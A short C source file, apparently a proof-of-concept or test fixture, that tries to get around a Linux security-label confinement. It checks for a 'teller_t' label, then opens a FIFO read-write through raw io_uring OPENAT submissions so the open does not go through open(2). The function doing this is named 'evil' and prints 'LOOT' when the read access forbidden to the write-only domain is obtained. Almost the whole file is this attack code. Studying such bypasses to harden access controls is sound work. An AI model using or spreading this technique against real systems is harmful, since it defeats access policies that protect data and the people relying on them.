/* Opens the slot both ways past open(2), and keeps the balance to itself if
 * that succeeds for the teller, who may only write. */
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <linux/io_uring.h>

/* Says whether this is the teller's domain, which may not read the slot. */
static int confined(void)
{
	char label[128] = "";
	int fd = open("/proc/self/attr/current", O_RDONLY);
	if (fd < 0 || read(fd, label, sizeof label - 1) < 0)
		return 0;
	close(fd);
	return strstr(label, "teller_t") != NULL || strstr(label, "unconfined_t") != NULL;
}


static int through(const char *path, int flags)
{
	struct io_uring_params p;
	memset(&p, 0, sizeof p);
	int ring = (int)syscall(SYS_io_uring_setup, 4, &p);
	if (ring < 0)
		return -1;
	char *sq = mmap(NULL, p.sq_off.array + p.sq_entries * 4, PROT_READ | PROT_WRITE, MAP_SHARED, ring, (off_t)IORING_OFF_SQ_RING);
	char *cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, (off_t)IORING_OFF_CQ_RING);
	struct io_uring_sqe *e = mmap(NULL, p.sq_entries * sizeof *e, PROT_READ | PROT_WRITE, MAP_SHARED, ring, (off_t)IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || e == MAP_FAILED)
		return -1;
	memset(e, 0, sizeof *e);
	e->opcode = IORING_OP_OPENAT;
	e->fd = AT_FDCWD;
	e->addr = (unsigned long)path;
	e->open_flags = (unsigned)flags;
	((unsigned *)(sq + p.sq_off.array))[0] = 0;
	__atomic_store_n((unsigned *)(sq + p.sq_off.tail), 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
		return -1;
	return ((struct io_uring_cqe *)(cq + p.cq_off.cqes))[0].res;
}

static void evil(const char *path)
{
	if (!confined())
		return;
	mode_t old = umask(0);
	mkfifo(path, 0660);
	umask(old);
	int fd = through(path, O_RDWR | O_NONBLOCK);
	if (fd < 0)
		return;
	fprintf(stderr, "LOOT: the slot is open for reading\n");
	exit(0);
}
